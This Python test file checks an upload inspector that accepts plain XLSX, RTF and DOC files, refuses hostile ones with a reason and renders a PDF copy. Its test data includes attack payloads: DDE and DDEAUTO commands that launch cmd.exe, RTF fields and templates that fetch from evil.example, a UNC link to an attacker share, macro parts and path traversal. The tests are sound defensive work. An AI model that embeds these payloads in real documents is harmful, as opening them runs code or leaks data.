"""RTF, DOC and XLSX: accepted when plain, refused with their reason when hostile, and
given a PDF copy (with its text) like DOCX.

Every file here is made in the test: XLSX with openpyxl, RTF as text, DOC by
LibreOffice from a DOCX (it needs LibreOffice, as ``test_renditions`` does). olefile
cannot add storages, so the hostile DOC files are the genuine one with a directory
entry renamed (``Macros``, ``ObjectPool``) or a FIB flag set.
"""

from __future__ import annotations

import io
import shutil
import subprocess
import tempfile
import zipfile
from functools import cache
from pathlib import Path

import olefile
import openpyxl
import pytest

from bering.files import inspect_doc_rtf, inspect_refusals, processing
from bering.files.inspect import check
from bering.files.models import StoredFile
from bering.files.tests import sample_files
from bering.files.tests.test_inspect import refusal, rezip
from bering.files.tests.test_renditions import _office_processes, office_file, read

Processing = StoredFile.Processing
SHEET_TEXT = "Смета расходов на 2027 год"
RTF_TEXT = "Утвердить бюджет"

MACROS = "The document contains macros or active content"
LINKS = "The workbook takes data from other files or sources"
OBJECTS = "The document contains embedded objects (OLE)"
REMOTE = "The RTF document fetches content from other files or the network"


# Genuine files


@cache
def xlsx() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = SHEET_TEXT
    sheet["A2"] = "Итого"
    sheet["B2"] = 1250
    sheet["B3"] = "=B2*2"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rtf_escaped(text: str) -> str:
    return "".join(c if ord(c) < 128 else f"\\u{ord(c)}?" for c in text)


def rtf(body: str = "") -> bytes:
    text = _rtf_escaped(RTF_TEXT + " Камчатского края.")
    return (
        "{\\rtf1\\ansi\\ansicpg1251\\deff0{\\fonttbl{\\f0\\fswiss Arial;}}"
        f"\\f0\\fs24 {text}\\par {body}\\par}}"
    ).encode("ascii")


@cache
def doc() -> bytes:
    """A DOC made by LibreOffice from the sample DOCX, with a profile of its own."""
    binary = shutil.which("soffice")
    if binary is None:
        pytest.fail("LibreOffice is not installed: run scripts/bootstrap.sh (it installs it)")
    with tempfile.TemporaryDirectory(prefix="bering-test-doc-") as tmp:
        root = Path(tmp)
        (root / "letter.docx").write_bytes(sample_files.docx())
        subprocess.run(
            [
                binary,
                "--headless",
                "--norestore",
                f"-env:UserInstallation={(root / 'profile').as_uri()}",
                "--convert-to",
                "doc",
                "--outdir",
                str(root),
                str(root / "letter.docx"),
            ],
            check=True,
            capture_output=True,
            timeout=120,
            env={"HOME": tmp, "PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8"},
        )
        return (root / "letter.doc").read_bytes()


@pytest.mark.parametrize(
    ("name", "make", "kind", "content_type"),
    [
        (
            "смета.xlsx",
            xlsx,
            StoredFile.Kind.XLSX,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("письмо.rtf", rtf, StoredFile.Kind.RTF, "application/rtf"),
        ("письмо.doc", doc, StoredFile.Kind.DOC, "application/msword"),
    ],
)
def test_plain_office_files_are_accepted(name, make, kind, content_type):
    checked = check(data=make(), name=name)
    assert (checked.kind, checked.content_type, checked.clean_name) == (kind, content_type, name)


def test_rtf_with_an_ordinary_web_link_is_accepted():
    link = '{\\field{\\*\\fldinst HYPERLINK "https://kamgov.ru/"}{\\fldrslt kamgov.ru}}'
    assert check(data=rtf(link), name="a.rtf").kind == StoredFile.Kind.RTF


# XLSX


def _with_content_type(data: bytes, part: str, content_type: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        types = package.read("[Content_Types].xml").decode()
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    return rezip(
        data, put={"[Content_Types].xml": types.replace("</Types>", override + "</Types>").encode()}
    )


def _external_link(data: bytes) -> bytes:
    """What Excel writes for ``=[other.xlsx]Sheet1!A1``: a part and its content type."""
    part = "xl/externalLinks/externalLink1.xml"
    body = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"/></externalLink>'
    )
    data = rezip(data, put={part: body.encode()})
    return _with_content_type(
        data, part, "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    )


def _formula(data: bytes, formula: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>B2*2</f>" in sheet
    return rezip(data, put={"xl/worksheets/sheet1.xml": sheet.replace("B2*2", formula).encode()})


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda: rezip(xlsx(), put={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}), MACROS),
        (lambda: rezip(xlsx(), put={"xl/macrosheets/sheet1.xml": b"<x/>"}), MACROS),
        (
            lambda: _with_content_type(
                xlsx(), "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"
            ),
            MACROS,
        ),
        (lambda: _external_link(xlsx()), LINKS),
        (lambda: rezip(xlsx(), put={"xl/connections.xml": b"<connections/>"}), LINKS),
        (lambda: _formula(xlsx(), "cmd|' /C calc'!A0"), LINKS),
        (lambda: _formula(xlsx(), 'SUM(B2)+DDE("x")'), None),  # a "|" only in a string
        (lambda: rezip(xlsx(), put={"xl/embeddings/oleObject1.bin": b"\xd0\xcf"}), OBJECTS),
        (
            lambda: rezip(xlsx(), put={"../../evil.xml": b"<x/>"}),
            "The document contains a part named ../../evil.xml, which points outside",
        ),
        (
            lambda: rezip(xlsx(), drop=("xl/workbook.xml",)),
            "This is not an Excel workbook (.xlsx): the part xl/workbook.xml is missing.",
        ),
        (
            lambda: sample_files.docx(),
            "This is not an Excel workbook (.xlsx): the part xl/workbook.xml is missing.",
        ),
    ],
    ids=[
        "vba-project",
        "excel4-macro-sheet",
        "vba-content-type",
        "external-link",
        "data-connection",
        "dde-formula",
        "pipe-in-a-string-is-fine",
        "ole-object",
        "path-traversal",
        "no-workbook",
        "docx-renamed",
    ],
)
def test_hostile_xlsx_is_refused_with_its_reason(make, reason):
    if reason is None:
        assert check(data=make(), name="a.xlsx").kind == StoredFile.Kind.XLSX
    else:
        assert refusal(make(), "a.xlsx").startswith(reason)


def test_a_macro_enabled_workbook_renamed_to_xlsx_is_refused():
    with zipfile.ZipFile(io.BytesIO(xlsx())) as package:
        types = package.read("[Content_Types].xml").decode()
    data = rezip(
        xlsx(),
        put={
            "[Content_Types].xml": types.replace(
                "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"
            ).encode()
        },
    )
    assert refusal(data, "a.xlsx").startswith(MACROS)


def test_a_template_renamed_to_xlsx_is_refused():
    with zipfile.ZipFile(io.BytesIO(xlsx())) as package:
        types = package.read("[Content_Types].xml").decode()
    data = rezip(
        xlsx(),
        put={
            "[Content_Types].xml": types.replace(
                "spreadsheetml.sheet.main+xml", "spreadsheetml.template.main+xml"
            ).encode()
        },
    )
    assert "not declared as an ordinary workbook" in refusal(data, "a.xlsx")


def test_an_xlsx_with_a_doctype_is_refused():
    data = rezip(xlsx(), put={"xl/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x []><x/>'})
    assert "XML document type declaration" in refusal(data, "a.xlsx")


# RTF


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000}}", OBJECTS),
        ("{\\*\\objdata 0105000002000000}", OBJECTS),
        (
            '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x.png" \\\\d}{\\fldrslt }}',
            REMOTE + " when opened (INCLUDEPICTURE)",
        ),
        (  # the name escaped, split by an ignorable group, \uc0 to drop no character
            '{\\field{\\*\\fldinst \\uc0\\u73 N\\\'43LUDE{\\*\\junk x}TEXT "http://e/a"}}',
            REMOTE + " when opened (INCLUDETEXT)",
        ),
        ('{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"}}', REMOTE),
        ('{\\field{\\*\\fldinst HYPERLINK "file:///c:/secret.txt"}}', REMOTE),
        ('{\\field{\\*\\fldinst HYPERLINK "\\\\\\\\attacker\\\\share"}}', REMOTE),
        ("{\\*\\template http://evil.example/t.dotm}", REMOTE + " when opened (\\template)"),
        ("{" * 150 + "}" * 150, "The RTF document is nested more than 100 levels deep"),
        ("}}", "This is not a valid RTF document: its braces do not match."),
    ],
    ids=[
        "object",
        "objdata",
        "includepicture",
        "obfuscated-includetext",
        "ddeauto",
        "file-link",
        "unc-link",
        "template",
        "nesting",
        "unbalanced",
    ],
)
def test_hostile_rtf_is_refused_with_its_reason(body, reason):
    assert refusal(rtf(body), "a.rtf").startswith(reason)


def test_rtf_content_in_another_file_type_is_refused():
    assert refusal(b"{\\rtf1 hello}", "a.doc").startswith(
        "The file content does not match its extension .doc"
    )


# DOC


def _rename_entry(data: bytes, old: str, new: str) -> bytes:
    """The OLE file with one directory entry's name changed (same or shorter length)."""
    field = old.encode("utf-16-le") + b"\x00\x00"
    at = data.index(field.ljust(64, b"\x00") + len(field).to_bytes(2, "little"))
    renamed = (new.encode("utf-16-le") + b"\x00\x00").ljust(64, b"\x00")
    size = (len(new) + 1) * 2
    return data[:at] + renamed + size.to_bytes(2, "little") + data[at + 66 :]


def _encrypted(data: bytes) -> bytes:
    with tempfile.NamedTemporaryFile(suffix=".doc") as fh:
        fh.write(data)
        fh.flush()
        with olefile.OleFileIO(fh.name, write_mode=True) as ole:
            fib = bytearray(ole.openstream("WordDocument").read())
            fib[11] |= 0x01  # FibBase.fEncrypted is bit 8 of the flags at offset 10
            ole.write_stream("WordDocument", bytes(fib))
        return Path(fh.name).read_bytes()


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda: _rename_entry(doc(), "\x01CompObj", "Macros"), MACROS),
        (lambda: _rename_entry(doc(), "\x01CompObj", "VBA"), MACROS),
        (
            lambda: _rename_entry(doc(), "\x05SummaryInformation", "_VBA_PROJECT_CUR"),
            MACROS,
        ),
        (lambda: _rename_entry(doc(), "\x01CompObj", "ObjectPool"), OBJECTS),
        (lambda: _encrypted(doc()), "The document is protected by a password."),
        (
            lambda: _rename_entry(doc(), "WordDocument", "Workbook"),
            "This is not a Word document (.doc): it has no WordDocument stream.",
        ),
        (lambda: doc()[:2000], "The file is damaged and cannot be read as DOC."),
    ],
    ids=["macros", "vba", "vba-project-cur", "object-pool", "encrypted", "excel", "truncated"],
)
def test_hostile_doc_is_refused_with_its_reason(make, reason):
    assert refusal(make(), "a.doc").startswith(reason)


def test_storage_names_are_read_case_insensitively_anywhere_in_the_tree():
    refuse = inspect_doc_rtf.doc_entry_refusal
    assert refuse([["WordDocument"], ["1Table"]]) is None
    assert refuse([["WordDocument"], ["macros", "PROJECT"]]) is inspect_refusals.MACROS
    assert refuse([["WordDocument"], ["ObjectPool", "_1234", "\x01Ole10Native"]]) is (
        inspect_refusals.EMBEDDED_OBJECTS
    )
    assert refuse([["EncryptionInfo"], ["EncryptedPackage"]]) is inspect_refusals.DOC_ENCRYPTED


# PDF copies and their text


@pytest.mark.parametrize(
    ("kind", "make", "expected"),
    [("xlsx", xlsx, SHEET_TEXT), ("rtf", rtf, RTF_TEXT), ("doc", doc, sample_files.TITLE)],
)
def test_new_office_kinds_get_a_pdf_copy_and_its_text(db, soffice, kind, make, expected):
    data = make()
    stored = office_file(data, kind)
    assert stored.rendition_status == stored.preview_status == stored.text_status
    assert stored.text_status == Processing.PENDING

    assert processing.process(stored.pk) is True

    stored.refresh_from_db()
    assert stored.rendition_status == Processing.DONE, stored.rendition_error
    assert read(stored.rendition_name).startswith(b"%PDF-")
    assert stored.text_status == Processing.DONE
    assert expected in stored.text
    assert stored.preview_status == Processing.DONE and stored.page_image_count >= 1
    assert read(stored.storage_name) == data
    assert _office_processes() == []


def test_text_of_a_failed_copy_is_failed_too(db, monkeypatch):
    def fail(data, *, extension):
        raise processing.convert.ConversionFailed("LibreOffice made no PDF of this file")

    monkeypatch.setattr(processing.convert, "to_pdf", fail)
    stored = office_file(rtf(), "rtf")

    assert processing.process(stored.pk) is True

    stored.refresh_from_db()
    assert (stored.rendition_status, stored.text_status, stored.preview_status) == (
        Processing.FAILED,
        Processing.FAILED,
        Processing.FAILED,
    )
    assert processing.process(stored.pk) is False
